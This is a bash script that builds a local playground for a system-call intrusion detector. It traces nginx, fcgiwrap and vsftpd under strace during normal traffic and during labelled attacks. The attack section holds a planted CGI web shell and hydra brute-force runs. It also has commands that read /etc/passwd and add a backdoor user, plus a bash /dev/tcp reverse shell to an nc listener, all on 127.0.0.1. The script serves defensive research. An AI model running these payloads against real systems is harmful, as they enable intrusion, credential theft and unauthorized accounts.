#!/usr/bin/env bash
# The detect playground (issue 16, item 6): real servers traced with strace under a normal
# workload and under labelled attacks, so `protolm detect` has system-call traces of its
# own to learn and to be measured on. Each run starts nginx (static pages, a password-
# protected area, CGI through fcgiwrap) and vsftpd on 127.0.0.1 (ports 18080 and 12121,
# passive FTP 12200-12299), each server in the foreground under
# `strace -f -tt -yy -s 64 -o RUN/NAME.strace`, drives a workload at them, stops them and
# labels every process (scripts/playground_label.py). Run kinds: `normal` (a seeded random
# mix of page sizes, 404s, HEAD, keep-alive, parallel clients, basic auth, CGI, FTP logins
# with listing, download, upload, the odd mistyped password) and five attacks, each run
# being normal traffic, then the attack alone inside a recorded time window, then normal
# traffic again: `bruteforce-ftp` and `bruteforce-http` (hydra), `webshell` (commands
# through a CGI web shell), `useradd` (the web shell adds a user, removed afterwards) and
# `revshell` (the web shell opens `bash -i` back to a listener on 127.0.0.1).
# Output per run: OUT/RUN/{nginx,fcgiwrap,vsftpd}.strace, run.json (the manifest: scenario,
# seed, times, attack window, versions), labels.tsv (one row per process) and
# split/RUN.{normal,attack,served}.strace. Nothing leaves 127.0.0.1. Needs root; creates the
# FTP user `plgnd` (removed on exit if this script created it); stops every server it
# started on exit. Usage: scripts/playground.sh [-o OUT] [-n NORMAL_RUNS] [-a ATTACK_REPEATS]
#   [-s SEED] [--scenarios A,B] [--sample DIR]  (defaults: /work/playground, 24, 2, 1, all five)
set -euo pipefail

out=/work/playground
normal_runs=24
attack_repeats=2
seed=1
sample=""
scenarios=(bruteforce-ftp bruteforce-http webshell useradd revshell)
while [ $# -gt 0 ]; do
  case "$1" in
    -o) out="$2"; shift 2 ;;
    -n) normal_runs="$2"; shift 2 ;;
    -a) attack_repeats="$2"; shift 2 ;;
    -s) seed="$2"; shift 2 ;;
    --sample) sample="$2"; shift 2 ;;
    --scenarios) IFS=, read -r -a scenarios <<<"$2"; shift 2 ;;
    -h|--help) sed -n '2,20p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
    *) echo "playground: unknown argument $1 (see --help)" >&2; exit 2 ;;
  esac
done

here="$(cd "$(dirname "$0")" && pwd)"
die() { echo "playground: $*" >&2; exit 1; }
[ "$(id -u)" -eq 0 ] || die "needs root (servers, the test user, useradd scenario)"
for t in strace nginx fcgiwrap vsftpd hydra curl lftp nc openssl python3 timeout; do
  command -v "$t" >/dev/null || die "$t is missing: run scripts/setup.sh"
done

HTTP_PORT=18080
FTP_PORT=12121
REV_PORT=14444
for p in $HTTP_PORT $FTP_PORT $REV_PORT; do
  if ss -ltn | awk '{print $4}' | grep -q ":$p\$"; then die "port $p on this machine is in use"; fi
done

FTP_USER=plgnd
FTP_PASS=normal-Pass-7
WEB_USER=admin
WEB_PASS=web-Secret-3
THROWAWAY=plgndx

# ---- cleanup: servers, users -------------------------------------------------------------
started=()        # strace PIDs of running servers
created_user=0
kill_tree() {     # kill_tree SIGNAL PID: the process and its descendants, by id
  local sig="$1" pid="$2" c
  for c in $(pgrep -P "$pid" 2>/dev/null || true); do kill_tree "$sig" "$c"; done
  kill "-$sig" "$pid" 2>/dev/null || true
}
stop_servers() {
  local s c i
  for s in "${started[@]+"${started[@]}"}"; do
    # TERM the traced server (strace's child); strace ends when its tracees have gone
    for c in $(pgrep -P "$s" 2>/dev/null || true); do kill -TERM "$c" 2>/dev/null || true; done
  done
  for s in "${started[@]+"${started[@]}"}"; do
    for i in $(seq 50); do kill -0 "$s" 2>/dev/null || break; sleep 0.1; done
    kill_tree KILL "$s"
    wait "$s" 2>/dev/null || true
  done
  started=()
}
cleanup() {
  stop_servers
  id "$THROWAWAY" >/dev/null 2>&1 && userdel -r "$THROWAWAY" >/dev/null 2>&1 || true
  if [ "$created_user" -eq 1 ]; then userdel -r "$FTP_USER" >/dev/null 2>&1 || true; fi
}
trap cleanup EXIT
trap 'exit 130' INT TERM

# ---- setup (idempotent) -------------------------------------------------------------------
if ! id "$FTP_USER" >/dev/null 2>&1; then
  useradd -m -s /bin/bash "$FTP_USER"
  created_user=1
fi
echo "$FTP_USER:$FTP_PASS" | chpasswd
home=$(getent passwd "$FTP_USER" | cut -d: -f6)
mkdir -p "$home/pub" "$home/incoming"
for s in 2 30 200; do
  [ -f "$home/pub/file-${s}k.bin" ] || head -c "$((s * 1024))" /dev/urandom >"$home/pub/file-${s}k.bin"
done
printf 'readme of the playground ftp account\n' >"$home/pub/README.txt"
chown -R "$FTP_USER:$FTP_USER" "$home"

mkdir -p "$out"
srv="$out/.server"          # the servers' private configuration and content
rm -rf "$srv"; mkdir -p "$srv/home" "$srv/www/private" "$srv/www/cgi-bin" "$srv/www/docs" "$srv/logs" "$srv/tmp"
chmod 755 "$out" "$srv" "$srv/www" "$srv/www/private" "$srv/www/cgi-bin" "$srv/www/docs"
printf '<html><body><h1>playground</h1><a href="/docs/">docs</a></body></html>\n' >"$srv/www/index.html"
python3 - "$srv/www/docs" <<'EOF'
import random, sys
random.seed(7)
words = "system trace process kernel server network packet model detect normal".split()
for name, n in [("small", 40), ("page", 400), ("article", 3000), ("large", 40000)]:
    with open(f"{sys.argv[1]}/{name}.html", "w") as f:
        f.write("<html><body>\n")
        for i in range(n):
            f.write(" ".join(random.choice(words) for _ in range(8)) + "\n")
        f.write("</body></html>\n")
EOF
head -c 524288 /dev/zero | tr '\0' 'x' >"$srv/www/docs/blob.bin"
printf '<html><body>private area</body></html>\n' >"$srv/www/private/index.html"
printf '%s:%s\n' "$WEB_USER" "$(openssl passwd -apr1 "$WEB_PASS")" >"$srv/htpasswd"
# benign CGI scripts: the normal workload runs these, so a forked /bin/sh is normal
cat >"$srv/www/cgi-bin/status.cgi" <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo
echo "date: $(date -u +%FT%TZ)"
echo "load: $(cat /proc/loadavg)"
EOF
cat >"$srv/www/cgi-bin/hello.cgi" <<'EOF'
#!/bin/sh
echo "Content-Type: text/html"
echo
name=$(echo "$QUERY_STRING" | sed -n 's/^name=\([A-Za-z0-9]*\).*/\1/p')
echo "<html><body>hello ${name:-world}</body></html>"
EOF
# the web shell an attacker planted: runs the command in ?cmd=
cat >"$srv/www/cgi-bin/shell.cgi" <<'EOF'
#!/bin/bash
echo "Content-Type: text/plain"
echo
q="${QUERY_STRING#cmd=}"; q="${q//+/ }"
printf -v cmd '%b' "${q//%/\\x}"
sh -c "$cmd" 2>&1
EOF
chmod 755 "$srv/www/cgi-bin/"*.cgi
chmod -R a+rX "$srv/www"

cat >"$srv/nginx.conf" <<EOF
user www-data;
worker_processes 1;
daemon off;
master_process on;
pid $srv/logs/nginx.pid;
error_log $srv/logs/error.log;
events { worker_connections 256; }
http {
  access_log $srv/logs/access.log;
  client_body_temp_path $srv/tmp/body;
  fastcgi_temp_path $srv/tmp/fastcgi;
  proxy_temp_path $srv/tmp/proxy;
  uwsgi_temp_path $srv/tmp/uwsgi;
  scgi_temp_path $srv/tmp/scgi;
  types { text/html html; text/plain txt; application/octet-stream bin; }
  keepalive_timeout 5;
  server {
    listen 127.0.0.1:$HTTP_PORT;
    root $srv/www;
    location /private/ { auth_basic "private"; auth_basic_user_file $srv/htpasswd; }
    location /cgi-bin/ {
      fastcgi_pass unix:$srv/fcgiwrap.sock;
      fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
      fastcgi_param QUERY_STRING \$query_string;
      fastcgi_param REQUEST_METHOD \$request_method;
      fastcgi_param CONTENT_TYPE \$content_type;
      fastcgi_param CONTENT_LENGTH \$content_length;
      fastcgi_param SCRIPT_NAME \$fastcgi_script_name;
      fastcgi_param REQUEST_URI \$request_uri;
      fastcgi_param REMOTE_ADDR \$remote_addr;
      fastcgi_param SERVER_NAME \$server_name;
      fastcgi_param SERVER_PORT \$server_port;
      fastcgi_param GATEWAY_INTERFACE CGI/1.1;
    }
  }
}
EOF
cat >"$srv/vsftpd.conf" <<EOF
listen=YES
listen_address=127.0.0.1
listen_port=$FTP_PORT
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
local_umask=022
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
xferlog_enable=NO
connect_from_port_20=NO
pasv_enable=YES
pasv_min_port=12200
pasv_max_port=12299
EOF
mkdir -p /var/run/vsftpd/empty

# hydra's password lists: the right password somewhere in them (a successful brute force)
python3 - "$srv" "$FTP_PASS" "$WEB_PASS" <<'EOF'
import random, sys
random.seed(3)
common = ["123456", "password", "12345678", "qwerty", "abc123", "111111", "letmein",
          "monkey", "dragon", "baseball", "iloveyou", "trustno1", "sunshine", "master",
          "welcome", "shadow", "ashley", "football", "jesus", "michael", "ninja",
          "mustang", "password1", "admin", "root", "toor", "changeme", "secret",
          "pass123", "hunter2", "summer2024", "winter", "qazwsx", "zaq12wsx", "passw0rd"]
for name, right in [("ftp-words.txt", sys.argv[2]), ("http-words.txt", sys.argv[3])]:
    words = common[:]
    words.insert(random.randrange(len(words) // 2, len(words)), right)
    open(f"{sys.argv[1]}/{name}", "w").write("\n".join(words) + "\n")
EOF

# ---- servers ------------------------------------------------------------------------------
# the servers start with a clean environment (no caller's HOME, shell rc or tool paths), so
# the traces are the same on any machine
E=(env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin LANG=C HOME="$srv/home" SHELL=/bin/sh)
start_servers() {  # start_servers RUN_DIR
  local d="$1" i
  rm -f "$srv/fcgiwrap.sock"
  # each server's working directory is its private directory, whoever calls the script
  (cd "$srv" && exec "${E[@]}" strace -f -tt -yy -s 64 -o "$d/fcgiwrap.strace" -- \
    fcgiwrap -c 2 -s "unix:$srv/fcgiwrap.sock") >/dev/null 2>>"$d/servers.log" &
  started+=($!)
  (cd "$srv" && exec "${E[@]}" strace -f -tt -yy -s 64 -o "$d/nginx.strace" -- \
    nginx -p "$srv" -c "$srv/nginx.conf" -e "$srv/logs/error.log") >/dev/null 2>>"$d/servers.log" &
  started+=($!)
  (cd "$srv" && exec "${E[@]}" strace -f -tt -yy -s 64 -o "$d/vsftpd.strace" -- \
    vsftpd "$srv/vsftpd.conf") >/dev/null 2>>"$d/servers.log" &
  started+=($!)
  for i in $(seq 100); do
    if [ -S "$srv/fcgiwrap.sock" ] && ss -ltn | grep -q "127.0.0.1:$HTTP_PORT " \
       && ss -ltn | grep -q "127.0.0.1:$FTP_PORT "; then
      chmod 666 "$srv/fcgiwrap.sock"
      return 0
    fi
    sleep 0.1
  done
  die "servers did not start within 10 s (see $d/servers.log, $srv/logs/error.log)"
}

# ---- the normal workload ------------------------------------------------------------------
H="http://127.0.0.1:$HTTP_PORT"
C=(curl -s --max-time 20 -o /dev/null)
ftp_session() {  # ftp_session PASSWORD COMMANDS
  timeout 30 lftp -u "$FTP_USER,$1" -p "$FTP_PORT" \
    -e "set net:max-retries 1; set net:timeout 10; $2; bye" 127.0.0.1 >/dev/null 2>&1 || true
}
normal_action() {
  local pages=(/ /index.html /docs/small.html /docs/page.html /docs/article.html /docs/large.html /docs/blob.bin)
  local p="${pages[RANDOM % ${#pages[@]}]}" up
  case $((RANDOM % 16)) in
    0|1) "${C[@]}" "$H$p" ;;
    2) "${C[@]}" "$H/docs/missing-$((RANDOM % 50)).html" ;;                          # 404
    3) "${C[@]}" -I "$H$p" ;;                                                       # HEAD
    4) "${C[@]}" "$H/" -o /dev/null "$H/docs/small.html" -o /dev/null "$H/docs/page.html" \
         -o /dev/null "$H/nothing" ;;                                               # keep-alive
    5) local j=() i; for i in 1 2 3; do "${C[@]}" "$H${pages[RANDOM % ${#pages[@]}]}" & j+=($!); done
       wait "${j[@]}" || true ;;                                                    # parallel
    6) "${C[@]}" -u "$WEB_USER:$WEB_PASS" "$H/private/" ;;
    7) if [ $((RANDOM % 4)) -eq 0 ]; then "${C[@]}" -u "$WEB_USER:typo$RANDOM" "$H/private/"
       else "${C[@]}" "$H/private/"; fi ;;                                          # 401s
    8) "${C[@]}" "$H/cgi-bin/status.cgi" ;;
    9) "${C[@]}" "$H/cgi-bin/hello.cgi?name=user$((RANDOM % 100))" ;;
    10) ftp_session "$FTP_PASS" "cd pub; ls" ;;
    11) ftp_session "$FTP_PASS" "cd pub; get -O /tmp/plgnd-dl file-$((RANDOM % 2 == 0 ? 2 : 30))k.bin; ls" ;;
    12) up="/tmp/plgnd-up-$RANDOM.txt"; head -c $((RANDOM % 20000 + 100)) /dev/urandom | base64 >"$up"
        ftp_session "$FTP_PASS" "cd incoming; put $up; ls; rm $(basename "$up")"; rm -f "$up" ;;
    13) ftp_session "$FTP_PASS" "pwd; ls; cd pub; cat README.txt" ;;
    14) if [ $((RANDOM % 3)) -eq 0 ]; then ftp_session "wrong$RANDOM" "ls"      # a typo
        else up=$RANDOM; ftp_session "$FTP_PASS" "mkdir incoming/d$up; ls incoming; rmdir incoming/d$up"; fi ;;
    15) "${C[@]}" -A "Mozilla/5.0 (X11; Linux x86_64)" "$H/docs/article.html" ;;
  esac
  sleep "0.$((RANDOM % 30))"
}
normal_phase() {  # normal_phase N
  local i
  for i in $(seq "$1"); do normal_action; done
  rm -rf /tmp/plgnd-dl
}

# ---- attacks ------------------------------------------------------------------------------
shell_cmd() { "${C[@]}" -G --data-urlencode "cmd=$1" "$H/cgi-bin/shell.cgi"; sleep 0.2; }
attack() {  # attack SCENARIO RUN_DIR
  case "$1" in
    bruteforce-ftp)
      hydra -l "$FTP_USER" -P "$srv/ftp-words.txt" -t 4 -f -s "$FTP_PORT" "ftp://127.0.0.1" \
        >"$2/hydra.out" 2>&1 || true ;;
    bruteforce-http)
      hydra -l "$WEB_USER" -P "$srv/http-words.txt" -t 4 -f -s "$HTTP_PORT" 127.0.0.1 \
        http-get /private/ >"$2/hydra.out" 2>&1 || true ;;
    webshell)
      shell_cmd "id"; shell_cmd "uname -a"; shell_cmd "cat /etc/passwd"; shell_cmd "ls -la /"
      shell_cmd "ps aux"; shell_cmd "cat /proc/version; hostname"
      shell_cmd "find / -maxdepth 2 -name '*.conf' | head" ;;
    useradd)
      shell_cmd "id"
      shell_cmd "useradd -M -s /bin/bash $THROWAWAY && echo $THROWAWAY:hacked | chpasswd"
      shell_cmd "id $THROWAWAY; tail -n 2 /etc/passwd" ;;
    revshell)
      # the listener (the attacker's side) sends commands through the reverse shell
      ( sleep 1.5; printf 'id\nuname -a\ncat /etc/hostname\nls -la /\nexit\n'; sleep 1 ) \
        | timeout 20 nc -l 127.0.0.1 "$REV_PORT" >"$2/revshell.out" 2>&1 &
      local l=$!
      sleep 0.5
      timeout 20 curl -s -o /dev/null -G \
        --data-urlencode "cmd=bash -c 'bash -i >& /dev/tcp/127.0.0.1/$REV_PORT 0>&1'" \
        "$H/cgi-bin/shell.cgi" || true
      wait "$l" || true ;;
    *) die "unknown scenario $1" ;;
  esac
}

# ---- runs ---------------------------------------------------------------------------------
now() { date +%s.%6N; }
version() { dpkg-query -W -f='${Version}' "$1" 2>/dev/null || echo unknown; }
one_run() {  # one_run NAME SCENARIO SEED
  local name="$1" scenario="$2" s="$3" d="$out/$1" start w0="" w1=""
  rm -rf "$d"; mkdir -p "$d"
  RANDOM=$s
  start=$(now)
  start_servers "$d"
  if [ "$scenario" = normal ]; then
    normal_phase $((30 + RANDOM % 21))
  else
    normal_phase $((6 + RANDOM % 5))
    sleep 1; w0=$(now)
    attack "$scenario" "$d"
    sleep 0.5; w1=$(now); sleep 1
    normal_phase $((6 + RANDOM % 5))
    id "$THROWAWAY" >/dev/null 2>&1 && userdel -r "$THROWAWAY" >/dev/null 2>&1 || true
  fi
  stop_servers
  python3 - "$d/run.json" "$name" "$scenario" "$s" "$start" "$(now)" "$w0" "$w1" \
    "$(version nginx) $(version vsftpd) $(version fcgiwrap) $(version hydra) $(version strace)" <<'EOF'
import json, sys
f, name, scen, seed, start, end, w0, w1, vers = sys.argv[1:]
v = vers.split()
json.dump({"run": name, "scenario": scen, "label": "normal" if scen == "normal" else "attack",
           "seed": int(seed), "start_epoch": float(start), "end_epoch": float(end),
           "attack_window": [float(w0), float(w1)] if w0 else None,
           "strace": "strace -f -tt -yy -s 64 -o NAME.strace",
           "servers": {"nginx": v[0], "vsftpd": v[1], "fcgiwrap": v[2]},
           "tools": {"hydra": v[3], "strace": v[4]}}, open(f, "w"), indent=1)
EOF
  python3 "$here/playground_label.py" "$d"
}

for i in $(seq -f %02g "$normal_runs"); do
  one_run "normal-$i" normal $((seed * 1000 + 10#$i))
done
for sc in "${scenarios[@]}"; do
  for i in $(seq -f %02g "$attack_repeats"); do
    one_run "$sc-$i" "$sc" $((seed * 1000 + 500 + 10#$i))
  done
done

# the labels of every run in one file
{
  head -n 1 "$(ls "$out"/*/labels.tsv | head -n 1)" | sed 's/^/run\t/'
  for f in "$out"/*/labels.tsv; do tail -n +2 "$f" | sed "s/^/$(basename "$(dirname "$f")")\t/"; done
} >"$out/labels.tsv"
echo "playground: $(ls -d "$out"/*/ | wc -l) runs in $out; labels in $out/labels.tsv"

if [ -n "$sample" ]; then
  python3 "$here/playground_sample.py" "$out" "$sample"
fi
